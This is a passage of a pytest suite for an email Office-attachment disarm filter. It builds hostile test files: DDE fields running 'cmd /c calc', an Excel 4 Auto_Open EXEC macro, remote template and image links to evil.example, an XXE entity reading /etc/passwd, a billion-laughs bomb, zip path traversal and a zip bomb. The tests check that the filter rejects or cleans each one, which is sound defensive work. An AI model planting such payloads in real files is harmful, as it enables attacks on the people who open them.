            "<w:p>" + field(["DD", "EAUTO " + cmd + " &quot;/k calc&quot;"], "表示一") + "</w:p>",
            # A simple DDE field.
            (
                '<w:p><w:fldSimple w:instr=" DDE cmd.exe &quot;/c calc&quot; ">'
                "<w:r><w:t>表示二</w:t></w:r></w:fldSimple></w:p>"
            ),
            # The keyword spelled by a nested QUOTE field (68 68 69 65 85 84 79 = DDEAUTO).
            "<w:p>"
            '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
            + field(["QUOTE 68 68 69 65 85 84 79"], "DDEAUTO")
            + '<w:r><w:instrText xml:space="preserve"> '
            + cmd
            + ' "/k calc"</w:instrText></w:r>'
            + '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>表示三</w:t></w:r>'
            + '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>',
            "<w:p>"
            + field([r" INCLUDEPICTURE &quot;http://evil.example/x.png&quot; \d "], "表示四")
            + "</w:p>",
            "<w:p>" + field([" HYPERLINK &quot;https://example.jp/&quot; "], "表示五") + "</w:p>",
            "<w:p>" + field([r" HYPERLINK \l &quot;section1&quot; "], "表示六") + "</w:p>",
            "<w:p>" + field([" PAGE "], "1") + "</w:p>",
            (
                "<w:p>"
                '<w:r><w:fldChar w:fldCharType="begin"><w:ffData><w:name w:val="Text1"/>'
                '<w:entryMacro w:val="Boom"/></w:ffData></w:fldChar></w:r>'
                '<w:r><w:instrText xml:space="preserve"> FORMTEXT </w:instrText></w:r>'
                '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>入力欄</w:t></w:r>'
                '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
            ),
        ]
    )
    return docx(body)


def docx_with_ole_and_activex() -> bytes:
    """An embedded OLE package object and an ActiveX button, each with a preview picture."""
    body = (
        '<w:p><w:r><w:object w:dxaOrig="1440" w:dyaOrig="720">'
        '<v:shape id="_x0000_i1025" style="width:72pt;height:36pt" o:ole="">'
        '<v:imagedata r:id="rId2" o:title=""/></v:shape>'
        '<o:OLEObject Type="Embed" ProgID="Package" ShapeID="_x0000_i1025" DrawAspect="Icon" r:id="rId3"/>'
        "</w:object></w:r></w:p>"
        '<w:p><w:r><w:object><v:shape id="_x0000_i1026" style="width:72pt;height:24pt">'
        '<v:imagedata r:id="rId2" o:title=""/></v:shape>'
        '<w:control r:id="rId4" w:name="CommandButton1" w:shapeid="_x0000_i1026"/></w:object></w:r></w:p>'
    )
    return docx(
        body,
        document_rels=(
            ("rId2", "image", "media/image1.png"),
            ("rId3", "oleObject", "embeddings/oleObject1.bin"),
            ("rId4", "control", "activeX/activeX1.xml"),
        ),
        parts={
            "word/media/image1.png": png(),
            "word/embeddings/oleObject1.bin": ole_object(),
            "word/activeX/activeX1.xml": (
                '<ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX" '
                'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" '
                'ax:classid="{D7053240-CE69-11CD-A777-00DD01143C57}" '
                'ax:persistence="persistStorage" r:id="rId1"/>'
            ),
            "word/activeX/_rels/activeX1.xml.rels": rels(
                ("rId1", MSREL + "activeXControlBinary", "activeX1.bin"),
            ),
            "word/activeX/activeX1.bin": cfb({"contents": b"\x00\x02"}),
        },
        defaults={"png": "image/png", "bin": "application/vnd.openxmlformats-officedocument.oleObject"},
        overrides={
            "word/activeX/activeX1.xml": "application/vnd.ms-office.activeX+xml",
            "word/activeX/activeX1.bin": "application/vnd.ms-office.activeX",
        },
    )


def docx_with_svg() -> bytes:
    """A picture with an SVG (holding a script) and its PNG fallback."""
    body = (
        '<w:p><w:r><w:drawing><a:graphic><a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture">'
        '<a:blip r:embed="rId2"><a:extLst><a:ext uri="{96DAC541-7B7A-43D3-8B79-37D633B846F1}">'
        '<asvg:svgBlip r:embed="rId3"/></a:ext></a:extLst></a:blip></a:graphicData></a:graphic></w:drawing>'
        "</w:r></w:p>"
    )
    return docx(
        body,
        document_rels=(("rId2", "image", "media/image1.png"), ("rId3", "image", "media/image2.svg")),
        parts={
            "word/media/image1.png": png(),
            "word/media/image2.svg": '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
        },
        defaults={"png": "image/png", "svg": "image/svg+xml"},
    )


def xlsm_with_xlm() -> bytes:
    """An xlsm with an Excel 4 macro sheet run by Auto_Open, and a veryHidden sheet."""
    macrosheet = (
        '<xm:macrosheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
        'xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main"><sheetData><row r="1"><c r="A1">'
        '<f>EXEC("calc.exe")</f></c></row><row r="2"><c r="A2"><f>HALT()</f></c></row></sheetData>'
        "</xm:macrosheet>"
    )
    return xlsx(
        '<sheet name="Macro1" sheetId="1" r:id="rId1"/><sheet name="データ" sheetId="2" r:id="rId2"/>'
        '<sheet name="隠し" sheetId="3" state="veryHidden" r:id="rId3"/>',
        '<definedName name="_xlnm.Auto_Open">Macro1!$A$1</definedName>'
        '<definedName name="Start" localSheetId="0">Macro1!$A$2</definedName>'
        '<definedName name="_xlnm.Print_Area" localSheetId="1">\'データ\'!$A$1:$B$2</definedName>'
        "<definedName name=\"Total\">'データ'!$A$1</definedName>",
        main_type="application/vnd.ms-excel.sheet.macroEnabled.main+xml",
        workbook_rels=(
            ("rId1", MSREL + "xlMacrosheet", "macrosheets/sheet1.xml"),
            ("rId2", "worksheet", "worksheets/sheet1.xml"),
            ("rId3", "worksheet", "worksheets/sheet2.xml"),
        ),
        parts={
            "xl/macrosheets/sheet1.xml": macrosheet,
            "xl/worksheets/sheet1.xml": worksheet(
                f'<row r="1"><c r="A1" t="inlineStr"><is><t>{JAPANESE}</t></is></c></row>'
            ),
            "xl/worksheets/sheet2.xml": worksheet(""),
        },
        overrides={
            "xl/macrosheets/sheet1.xml": "application/vnd.ms-excel.macrosheet+xml",
            "xl/worksheets/sheet1.xml": SML + "worksheet+xml",
            "xl/worksheets/sheet2.xml": SML + "worksheet+xml",
        },
    )


def xlsx_with_dde() -> bytes:
    """An xlsx whose formula reads a DDE link (cmd /c calc)."""
    return xlsx(
        '<sheet name="Sheet1" sheetId="1" r:id="rId1"/>',
        extra='<externalReferences><externalReference r:id="rId2"/></externalReferences>',
        workbook_rels=(
            ("rId1", "worksheet", "worksheets/sheet1.xml"),
            ("rId2", "externalLink", "externalLinks/externalLink1.xml"),
        ),
        parts={
            "xl/worksheets/sheet1.xml": worksheet(
                '<row r="1"><c r="A1" t="e"><f>[1]!_xlbgnm.A1</f><v>#REF!</v></c>'
                '<c r="B1"><f>SUM(1,2)</f><v>3</v></c>'
                "<c r=\"C1\"><f>cmd|' /c calc'!A0</f><v>0</v></c>"
                '<c r="D1" t="str"><f>"a|b"&amp;"[1]"</f><v>a|b[1]</v></c></row>'
            ),
            "xl/externalLinks/externalLink1.xml": (
                '<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
                '<ddeLink ddeService="cmd" ddeTopic="/c calc.exe"><ddeItems>'
                '<ddeItem name="_xlbgnm.A1" advise="1"/>'
                "</ddeItems></ddeLink></externalLink>"
            ),
        },
        overrides={
            "xl/worksheets/sheet1.xml": SML + "worksheet+xml",
            "xl/externalLinks/externalLink1.xml": SML + "externalLink+xml",
        },
    )


def pptx_with_ole() -> bytes:
    """A slide with an embedded OLE package object and its fallback picture."""
    frame = (
        '<p:graphicFrame><p:nvGraphicFramePr><p:cNvPr id="4" name="Object 3"/><p:cNvGraphicFramePr/><p:nvPr/>'
        '</p:nvGraphicFramePr><p:xfrm><a:off x="100" y="200"/><a:ext cx="3000" cy="4000"/></p:xfrm>'
        "<a:graphic>"
        '<a:graphicData uri="http://schemas.openxmlformats.org/presentationml/2006/ole"><mc:AlternateContent>'
        '<mc:Choice Requires="v"><p:oleObj spid="_x0000_s1026" name="Packager" r:id="rId2" progId="Package">'
        "<p:embed/></p:oleObj></mc:Choice><mc:Fallback>"
        '<p:oleObj name="Packager" r:id="rId2" progId="Package"><p:embed/><p:pic><p:nvPicPr>'
        '<p:cNvPr id="0" name=""/>'
        '<p:cNvPicPr/><p:nvPr/></p:nvPicPr><p:blipFill><a:blip r:embed="rId3"/></p:blipFill><p:spPr>'
        '<a:xfrm><a:off x="1" y="2"/><a:ext cx="3" cy="4"/></a:xfrm></p:spPr></p:pic></p:oleObj>'
        "</mc:Fallback></mc:AlternateContent></a:graphicData></a:graphic></p:graphicFrame>"
    )
    return pptx(
        shape(2, JAPANESE) + frame,
        (("rId2", "oleObject", "../embeddings/oleObject1.bin"), ("rId3", "image", "../media/image1.png")),
        {"ppt/embeddings/oleObject1.bin": ole_object(), "ppt/media/image1.png": png()},
    )


def pptx_with_links() -> bytes:
    """A slide with web, file: and UNC hyperlinks, a ppaction://program click, an externally linked image."""
    return pptx(SLIDE_WITH_LINKS, SLIDE_LINK_RELS, {"ppt/media/image1.png": png()})


HOSTILE_INPUTS = {
    "docm-vba": (docm_with_vba, WML + "document"),
    "docx-template-injection": (docx_with_template_injection, WML + "document"),
    "docx-dde": (docx_with_fields, WML + "document"),
    "docx-ole-activex": (docx_with_ole_and_activex, WML + "document"),
    "xlsm-xlm": (xlsm_with_xlm, SML + "sheet"),
    "xlsx-dde": (xlsx_with_dde, SML + "sheet"),
    "pptx-links": (pptx_with_links, PML + "presentation"),
    "pptx-ole": (pptx_with_ole, PML + "presentation"),
}


@pytest.mark.parametrize("name", sorted(HOSTILE_INPUTS))
def test_the_check_rejects_every_hostile_input(name: str, tmp_path: Path) -> None:
    """Each input above fails check_output as it stands: the check is known to see what it looks for."""
    build, content_type = HOSTILE_INPUTS[name]
    with pytest.raises(AssertionError):
        check_output(build(), content_type, tmp_path)


# -- hostile packages ---------------------------------------------------------------------------

BILLION_LAUGHS = (
    '<?xml version="1.0"?><!DOCTYPE w:document [<!ENTITY a "aaaaaaaaaa">'
    '<!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">]>'
    f"<w:document {NS}><w:body><w:p><w:r><w:t>&c;</w:t></w:r></w:p></w:body></w:document>"
)
XXE = (
    '<?xml version="1.0"?><!DOCTYPE w:document [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
    f"<w:document {NS}><w:body><w:p><w:r><w:t>&x;</w:t></w:r></w:p></w:body></w:document>"
)
HOSTILE_DOCUMENTS = {
    "billion-laughs": BILLION_LAUGHS.encode(),
    "xxe": XXE.encode(),
    "xxe-utf16": XXE.replace('version="1.0"', 'version="1.0" encoding="UTF-16"').encode("utf-16"),
    "shift-jis": word_document("").replace("UTF-8", "Shift_JIS").encode("utf-8"),
    "not-xml": b"<w:document><unclosed>",
}


@pytest.mark.parametrize("name", sorted(HOSTILE_DOCUMENTS))
def test_hostile_xml_is_refused(name: str) -> None:
    data = _replace_member(docx(), "word/document.xml", HOSTILE_DOCUMENTS[name])
    with pytest.raises(converter.PackageRejected):
        converter.main(data, {})


def test_hostile_xml_through_the_sandbox_raises(ctx: FilterContext) -> None:
    data = _replace_member(docx(), "word/document.xml", HOSTILE_DOCUMENTS["xxe"])
    with pytest.raises(SandboxError, match="DTD"):
        FILTER.process(make_part(data, "xxe.docx"), ctx)


def _crafted_zips() -> dict[str, bytes]:
    base = docx()
    duplicate = io.BytesIO()
    with zipfile.ZipFile(duplicate, "w") as archive, warnings.catch_warnings():
        warnings.simplefilter("ignore")  # zipfile warns about the duplicate name it is asked to write
        for name, data in _members(base).items():
            archive.writestr(name, data)
        archive.writestr("word/document.xml", word_document("second reading"))
    return {
        "duplicate-name": duplicate.getvalue(),
        "case-duplicate": _add_member(base, "Word/Document.xml", word_document("")),
        "traversal": _add_member(base, "word/../../evil.xml", "<x/>"),
        "absolute": _add_member(base, "/etc/evil.xml", "<x/>"),
        "backslash": _add_member(base, "word\\evil.xml", "<x/>"),
        "overlapping": _overlapping(base),
        "no-content-types": zip_package({"word/document.xml": word_document("")}),
        "not-a-zip": b"PK\x03\x04 garbage " * 50,
    }


@pytest.mark.parametrize("name", sorted(_crafted_zips()))
def test_malformed_packages_are_refused(name: str) -> None:
    with pytest.raises(converter.PackageRejected):
        converter.main(_crafted_zips()[name], {})


LEFTOVERS: dict[str, dict[str, str | bytes]] = {
    "vba-member": {"word/vbaProject.bin": b"x"},
    "macro-type": {
        "[Content_Types].xml": content_types(
            {"word/document.xml": "application/vnd.ms-word.document.macroEnabled.main+xml"}
        )
    },
    "ole-bytes": {"word/media/image1.png": OLE_MAGIC + b"\0" * 100},
    "template-rel": {
        "word/_rels/settings.xml.rels": rels(
            ("rId1", "attachedTemplate", "http://evil.example/t.dotm", "External")
        )
    },
    "web-link": {
        "word/_rels/document.xml.rels": rels(("rId1", "hyperlink", "https://example.jp/", "External"))
    },
    "dde-field": {"word/document.xml": word_document(field(["DDEAUTO cmd /c calc"], "x"))},
}


@pytest.mark.parametrize("name", sorted(LEFTOVERS))
def test_the_converters_last_look_catches_leftovers(name: str) -> None:
    """verify() is the converter's own final check: any of these in an output is an error, not a pass."""
    clean = _members(docx())
    package = zip_package({**clean, **LEFTOVERS[name]})
    with pytest.raises(converter.NotInertError):
        converter.verify(package, keep_hyperlinks=False)
    converter.verify(zip_package(clean), keep_hyperlinks=False)


def _hostile_members() -> dict[str, bytes]:
    """docm_with_vba() with the field document of docx_with_fields(): macros, DDE and links in one."""
    members = _members(docm_with_vba())
    members["word/document.xml"] = _members(docx_with_fields())["word/document.xml"]
    return members


HOSTILE_MEMBERS = _hostile_members()
MUTABLE = sorted(n for n in HOSTILE_MEMBERS if not n.endswith(".bin"))


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(
    member=st.sampled_from(MUTABLE),
    edits=st.lists(
        st.tuples(st.floats(0, 1, exclude_max=True), st.binary(min_size=0, max_size=3)), max_size=6
    ),
)
def test_corrupted_hostile_packages_are_refused_or_come_out_clean(
    member: str, edits: list[tuple[float, bytes]], tmp_path_factory: pytest.TempPathFactory
) -> None:
    """Whatever a member's bytes become (the zip itself stays valid, so the edits reach the parsers):
    the converter raises (the part is held), holds, or its output passes the independent check."""
    data = bytearray(HOSTILE_MEMBERS[member])
    for where, replacement in edits:
        position = int(where * len(data))
        data[position : position + len(replacement)] = replacement
    package = zip_package({**HOSTILE_MEMBERS, member: bytes(data)})
    try:
        header, output = converter.unpack_result(converter.main(package, {}))
    except Exception:  # any refusal is a hold
        return
    if header["status"] == "ok":
        check_output(output, header["content_type"], tmp_path_factory.mktemp("fuzz"))
    else:
        assert header["reason"] in converter.HELD_REASONS


def test_zip_bomb_member_is_held(ctx: FilterContext) -> None:
    bomb = _add_member(docx(), "word/media/zeros.png", b"\0" * (8 * 1024 * 1024))
    assert len(bomb) < 64 * 1024
    held = FILTER.process(make_part(bomb, "bomb.docx"), ctx)
    assert (held.action, held.reason) == (Action.HOLD, "limit-exceeded")


@pytest.mark.parametrize(
    ("options", "extra"),
    [
        ({"max_members": 10}, {f"word/media/i{n}.png": png() for n in range(12)}),
        ({"max_total_bytes": 1024 * 1024}, {"word/media/big.png": os.urandom(1024 * 1024 + 1)}),
        ({"max_xml_bytes": 64 * 1024}, {"word/document.xml": word_document(paragraph("x" * 70_000))}),
    ],
    ids=["members", "total-bytes", "xml-bytes"],
)
def test_caps_hold_the_file(
    ctx: FilterContext, options: dict[str, int], extra: dict[str, str | bytes]
) -> None:
    data = docx(parts=extra, defaults={"png": "image/png"})
    held = OfficeFilter(OfficeOptions.model_validate(options)).process(make_part(data, "big.docx"), ctx)
    assert (held.action, held.reason) == (Action.HOLD, "limit-exceeded")
    converted = FILTER.process(make_part(data, "big.docx"), ctx)  # under the default caps it is fine
    assert converted.action is Action.REPLACE


def test_garbage_named_docx_raises(ctx: FilterContext) -> None:
    part = make_part(b"\x00\x13\x37 not an office file " * 30, "invoice.docx")
    assert part.detected_type == "application/octet-stream"
    assert FILTER.applies_to(part)
    with pytest.raises(SandboxError, match="neither an OOXML package nor an OLE file"):
        FILTER.process(part, ctx)


def test_xlsb_is_held_as_unsupported(ctx: FilterContext) -> None:
    data = zip_package(
        {
            "[Content_Types].xml": content_types(
                {"xl/workbook.bin": "application/vnd.ms-excel.sheet.binary.macroEnabled.main"}
            ),
            "_rels/.rels": rels(("rId1", "officeDocument", "xl/workbook.bin")),
            "xl/workbook.bin": b"\x83\x01\x00",
        }
    )
    held = FILTER.process(
        make_part(data, "book.xlsb", "application/vnd.ms-excel.sheet.binary.macroEnabled.12"), ctx
    )
    assert (held.action, held.reason) == (Action.HOLD, "unsupported-type")


# -- legacy, encrypted, RTF ---------------------------------------------------------------------


def _biff(*records: tuple[int, bytes]) -> bytes:
    return b"".join(struct.pack("<HH", rtype, len(body)) + body for rtype, body in records)


LEGACY_CASES = {
    "doc": (cfb({"WordDocument": b"\xec\xa5\xc1\x00" + b"\0" * 8}), "a.doc", "legacy-office"),
    "doc-encrypted": (
        cfb({"WordDocument": b"\xec\xa5\xc1\x00" + b"\0" * 6 + b"\x00\x01"}),
        "a.doc",
        "encrypted",
    ),
    "xls": (cfb({"Workbook": _biff((0x0809, b"\0" * 16), (0x000A, b""))}), "a.xls", "legacy-office"),
    "xls-encrypted": (
        cfb({"Workbook": _biff((0x0809, b"\0" * 16), (0x002F, b"\x01\x00"))}),
        "a.xls",
        "encrypted",
    ),
    "ppt-encrypted": (
        cfb({"PowerPoint Document": b"\0", "Current User": b"\0" * 12 + struct.pack("<I", 0xF3D1C4DF)}),
        "a.ppt",
        "encrypted",
    ),
    "docx-encrypted": (
        cfb({"EncryptionInfo": b"\x04\x00\x04\x00", "EncryptedPackage": b"\0" * 8}),
        "a.docx",
        "encrypted",
    ),
    "doc-unreadable": (OLE_MAGIC + b"\0" * 600, "a.doc", "legacy-office"),
}


@pytest.mark.parametrize("name", sorted(LEGACY_CASES))
def test_legacy_and_encrypted_files_are_held_with_their_reason(ctx: FilterContext, name: str) -> None:
    data, filename, reason = LEGACY_CASES[name]
    detected = detect_type(data)
    part = make_part(data, filename, detected)
    assert HOLD_LEGACY.applies_to(part), detected
    verdict = HOLD_LEGACY.process(part, ctx)
    assert (verdict.action, verdict.reason) == (Action.HOLD, reason)
    if reason == "encrypted":  # found before LibreOffice would be asked, whatever ``legacy`` says
        assert FILTER.process(part, ctx).reason == "encrypted"


def test_rtf_attachment_is_held_without_a_sandbox_when_legacy_is_held() -> None:
    rtf = rb"{\rtf1\ansi{\object\objemb{\*\objdata 0105000002000000}}}"
    part = make_part(rtf, "letter.rtf")
    assert part.detected_type == "text/rtf"
    verdict = HOLD_LEGACY.process(part, FilterContext("Q", "example.jp", CONFIG, sandbox=None))
    assert (verdict.action, verdict.reason) == (Action.HOLD, "legacy-office")
    assert not FILTER.applies_to(make_part(rtf, None, role=Role.BODY))  # RTF bodies are the rtf filter's


def test_no_sandbox_raises() -> None:
    no_sandbox = FilterContext("Q", "example.jp", CONFIG, sandbox=None)
    for data, name in ((docx(), "a.docx"), (LEGACY_CASES["doc"][0], "a.doc")):
        with pytest.raises(SandboxError, match="no sandbox"):
            FILTER.process(make_part(data, name), no_sandbox)


# -- claims, names, options, the wire format (no sandbox needed) --------------------------------


@pytest.mark.parametrize(
    ("detected", "filename", "claimed"),
    [
        (WML + "document", "a.docx", True),
        (WML + "document", None, True),
        (SML + "sheet", "a.bin", True),
        (PML + "presentation", "a.pptx", True),
        ("application/vnd.ms-word.document.macroEnabled.12", "a.docm", True),
        ("application/vnd.ms-excel.sheet.binary.macroEnabled.12", "a.xlsb", True),
        ("application/zip", "a.docx", True),
        ("application/zip", "a.XLSM", True),
        ("application/zip", "a.zip", False),  # the archive filter's
        ("application/zip", "a.xls", False),  # an OpenDocument file named .xls, say: not OOXML
        ("application/octet-stream", "a.pptx", True),
        ("application/octet-stream", "a.doc", True),
        ("application/octet-stream", "a.bin", False),
        ("application/msword", "a.txt", True),
        ("application/vnd.ms-excel", None, True),
        ("application/vnd.ms-powerpoint", "a.ppt", True),
        ("application/x-ole-storage", "a.xls", True),
        ("application/x-ole-storage", "a.docx", True),
        ("application/x-ole-storage", "a.msg", False),
        ("application/CDFV2", "a.doc", True),
        ("application/encrypted", "a.xlsx", True),
        ("text/rtf", "a.rtf", True),
        ("application/rtf", "a.doc", True),
        ("application/onenote", "a.one", False),
        ("application/vnd.oasis.opendocument.text", "a.odt", False),
        ("application/pdf", "a.docx", False),
        ("text/plain", "a.docx", False),
    ],
)
def test_claims(detected: str, filename: str | None, claimed: bool) -> None:
    part = make_part(b"x", filename, detected)
    assert FILTER.applies_to(part) is claimed
    assert not FILTER.applies_to(make_part(b"x", filename, detected, role=Role.BODY))


@pytest.mark.parametrize(
    ("name", "extension", "expected"),
    [
        ("report.docm", "docx", "report.docx"),
        ("報告書.DOCM", "docx", "報告書.docx"),
        ("表.xlsx", "xlsx", "表.xlsx"),
        ("macro.xlam", "xlsx", "macro.xlsx"),
        ("show.ppsm", "ppsx", "show.ppsx"),
        ("template.dotm", "dotx", "template.dotx"),
        ("data.bin", "docx", "data.bin.docx"),
        ("noext", "pptx", "noext.pptx"),
        (".docm", "docx", ".docm.docx"),
        (None, "docx", "document.docx"),
        ("  ", "xlsx", "document.xlsx"),
    ],
)
def test_output_filename(name: str | None, extension: str, expected: str) -> None:
    assert output_filename(name, extension) == expected


def test_options_are_strict_and_hyperlinks_follow_the_body_policy() -> None:
    with pytest.raises(ValidationError):
        OfficeOptions.model_validate({"max_members": 0})
    with pytest.raises(ValidationError):
        OfficeOptions.model_validate({"macros": "keep"})
    defanging = FilterContext(
        "Q", "example.jp", CONFIG, defang_urls=True, sandbox=CannedSandbox(b"", "office")
    )
    exempt = FilterContext("Q", "example.jp", CONFIG, defang_urls=False, sandbox=CannedSandbox(b"", "office"))
    part = make_part(_ZIP, "report.docx")

    def converter_args(flt: OfficeFilter, ctx: FilterContext) -> dict[str, Any]:
        return flt.converter_args(flt.begin(part, ctx))

    assert converter_args(FILTER, defanging)["hyperlinks"] == "unlink"
    assert converter_args(FILTER, exempt)["hyperlinks"] == "keep"
    assert converter_args(OfficeFilter(OfficeOptions(hyperlinks="keep")), defanging)["hyperlinks"] == "keep"


def test_wire_format_round_trip_and_malformed_results() -> None:
    packed = converter.pack_result({"status": "ok", "removed": {"dde": 1}}, b"PK\x03\x04data")
    header, data = converter.unpack_result(packed)
    assert header == {"status": "ok", "removed": {"dde": 1}} and data == b"PK\x03\x04data"
    for bad in (b"", b"\x00\x00", struct.pack(">I", 10) + b"{}", struct.pack(">I", 2) + b"[]"):
        with pytest.raises(ValueError):
            converter.unpack_result(bad)


_ZIP = zip_package({"a.xml": "<a/>"})
_OK = {"status": "ok", "content_type": WML + "document", "extension": "docx", "removed": {}}


@pytest.mark.parametrize(
    ("header", "package"),
    [
        ({**_OK, "content_type": "text/html"}, _ZIP),
        ({**_OK, "extension": "exe"}, _ZIP),
        ({**_OK, "extension": "xlsx"}, _ZIP),
        (_OK, b"MZ not a zip"),
        (_OK, _ZIP + b"trailing"),
        ({**_OK, "removed": {"bad key!": 1}}, _ZIP),
        ({**_OK, "removed": {"dde": -1}}, _ZIP),
        ({**_OK, "removed": []}, _ZIP),
        ({"status": "held", "reason": "because"}, b""),
        ({"status": "maybe"}, b""),
    ],
)
def test_filter_rejects_implausible_converter_results(header: dict[str, object], package: bytes) -> None:
    fake = FilterContext(
        "Q", "example.jp", CONFIG, sandbox=CannedSandbox(converter.pack_result(header, package), "office")
    )
    with pytest.raises(SandboxError):
        FILTER.process(make_part(docx(), "a.docx"), fake)


def test_filter_accepts_a_plausible_converter_result() -> None:
    sandbox = CannedSandbox(converter.pack_result(_OK, _ZIP), "office")
    fake = FilterContext("Q", "example.jp", CONFIG, sandbox=sandbox)
    verdict = FILTER.process(make_part(docx(), "a.docm"), fake)
    assert verdict.output is not None and verdict.output.filename == "a.docx"
    held = FilterContext(
        "Q",
        "example.jp",
        CONFIG,
        sandbox=CannedSandbox(converter.pack_result({"status": "held", "reason": "encrypted"}), "office"),
    )
    assert FILTER.process(make_part(docx(), "a.docx"), held).reason == "encrypted"


# -- the pipeline -------------------------------------------------------------------------------


@pytest.mark.libreoffice
def test_through_the_pipeline(sandbox: Sandbox, tmp_path: Path) -> None:
    require_libreoffice()  # the RTF attachment becomes a PDF
    docm = docx(
        paragraph("本文"),
        main_type="application/vnd.ms-word.document.macroEnabled.main+xml",
        document_rels=(("rId1", MSREL + "vbaProject", "vbaProject.bin"),),
        parts={"word/vbaProject.bin": vba_project()},
        defaults={"bin": "application/vnd.ms-office.vbaProject"},
    )
    msg = EmailMessage()
    msg["From"] = "sender@example.jp"
    msg["To"] = "taro@city.example.lg.jp"
    msg["Subject"] = "資料送付"
    msg.set_content("資料を送ります。\n")
    msg.add_attachment(
        docm, maintype="application", subtype="vnd.ms-word.document.macroEnabled.12", filename="議事録.docm"
    )
    msg.add_attachment(rb"{\rtf1 hello}", maintype="application", subtype="rtf", filename="手紙.rtf")
    msg.add_attachment(
        LEGACY_CASES["doc-encrypted"][0], maintype="application", subtype="msword", filename="秘.doc"
    )
    msg.add_attachment(
        b"\x00garbage" * 50, maintype="application", subtype="octet-stream", filename="請求書.docx"
    )
    pipeline = Pipeline(CONFIG, filters=[OfficeFilter(OfficeFilter.Options()), *build_pipeline(CONFIG)])
    result = pipeline.run(msg.as_bytes(), ENV)
    records = {r.filename: r for r in result.records}

    docm_record = records["議事録.docm"]
    assert (docm_record.filter, docm_record.action, docm_record.removed) == (
        "office",
        "replace",
        {"vba-project": 1},
    )
    assert (records["手紙.rtf"].filter, records["手紙.rtf"].action) == ("office", "replace")
    assert (records["秘.doc"].action, records["秘.doc"].reason) == ("hold", "encrypted")
    assert (records["請求書.docx"].action, records["請求書.docx"].reason) == ("hold", "filter-error")
    assert "office-disarmed=1" in result.actions
    assert "office-rasterized=1" in result.actions

    out = email.message_from_bytes(result.output, policy=email.policy.default)
    assert isinstance(out, EmailMessage)
    attachments = {a.get_filename(): a for a in out.iter_attachments()}
    assert set(attachments) == {"議事録.docx", "手紙.pdf"}
    letter = attachments["手紙.pdf"].get_content()
    assert isinstance(letter, bytes)
    assert_inert(letter)
    attachment = attachments["議事録.docx"]
    assert attachment.get_content_type() == WML + "document"
    payload = attachment.get_content()
    assert isinstance(payload, bytes)
    members = check_output(payload, WML + "document", tmp_path)
    assert "本文" in text_of(members["word/document.xml"])
    assert docm_record.output_sha256 == hashlib.sha256(payload).hexdigest()


# -- the corpus ---------------------------------------------------------------------------------


CORPUS_DOCS = Path(os.environ.get(CORPUS_ENV, DEFAULT_CORPUS)) / "docs"
OFFICE_SUFFIXES = {
    ".doc",
    ".docx",
    ".docm",
    ".xls",
    ".xlsx",
    ".xlsm",
    ".xlsb",
    ".ppt",
    ".pptx",
    ".pptm",
    ".rtf",
}


def corpus_documents() -> list[Path]:
    """The corpus files this filter claims, and those with an Office name it must not claim.

    The oletools samples in password-protected zips are left out: they are archives, not Office files.
    """
    found: list[Path] = []
    for source in ("oletools", "dangerzone", "pycirclean"):
        if not (CORPUS_DOCS / source).is_dir():
            continue
        for path in sorted(p for p in (CORPUS_DOCS / source).rglob("*") if p.is_file()):
            if path.suffix.lower() in OFFICE_SUFFIXES or FILTER.applies_to(
                make_part(path.read_bytes(), path.name)
            ):
                found.append(path)
    return found


CORPUS = corpus_documents()
# What must come of some samples (the others: converted and checked, or held; never passed).
EXPECTED: dict[str, tuple[str, str | dict[str, int]]] = {
    "oletools/msodde/dde-test.docx": ("replace", {"dde": 3, "macro-binding": 1}),
    "oletools/msodde/dde-test.docm": ("replace", {"dde": 3, "macro-binding": 1}),
    "oletools/msodde/dde-test.xlsx": ("replace", {"dde": 1}),
    "oletools/oleform/oleform-PR314.docm": ("replace", {"vba-project": 1}),
    "oletools/excel4-macros/excel4_sample_macro.xlsm": ("replace", {"xlm-macrosheet": 1, "auto-macro": 1}),
    "oletools/excel4-macros/excel4_sample_macro.xlsb": ("hold", "unsupported-type"),
    "oletools/oleobj/embedded-simple-2007.docx": ("replace", {"ole-embedding": 1}),
    "oletools/oleobj/embedded-simple-2007.pptx": ("replace", {"ole-embedding": 1}),
    "oletools/oleobj/embedded-simple-2007.xlsx": ("replace", {"ole-embedding": 1, "printer-settings": 1}),
    "oletools/oleobj/external_link/sample_with_external_link_to_doc.docx": ("replace", {"external-link": 1}),
    "oletools/oleobj/external_link/sample_with_external_link_to_doc.pptm": ("replace", {"external-link": 1}),
    "oletools/oleobj/external_link/sample_with_external_link_to_doc.xlsx": ("replace", {"external-link": 1}),
    "oletools/encrypted/encrypted.docx": ("hold", "encrypted"),
    "oletools/encrypted/encrypted.doc": ("hold", "encrypted"),
    "oletools/encrypted/encrypted.xls": ("hold", "encrypted"),
    "oletools/encrypted/autostart-encrypt-standardpassword.xlsm": ("hold", "encrypted"),
    "dangerzone/sample-doc.doc": ("replace", {}),
    "dangerzone/sample-docx.docx": ("replace", {}),
    "pycirclean/normal/rich_text.rtf": ("replace", {}),
    "oletools/excel4-macros/excel4_sample_macro.xls": ("replace", {"xlm-macrosheet": 1}),
    "oletools/oleobj/sample_with_calc_embedded.doc": ("replace", {"ole-embedding": 1}),
}


def _corpus_params() -> Iterator[object]:
    if not CORPUS:
        yield pytest.param(
            None, marks=pytest.mark.skip(reason="the document corpus is not in ../shared/corpus")
        )
    for path in CORPUS:
        yield pytest.param(path, id=path.relative_to(CORPUS_DOCS).as_posix())


@pytest.mark.corpus
@pytest.mark.parametrize("path", list(_corpus_params()))
def test_corpus_documents_are_disarmed_and_checked_or_held(
    ctx: FilterContext, path: Path | None, tmp_path: Path
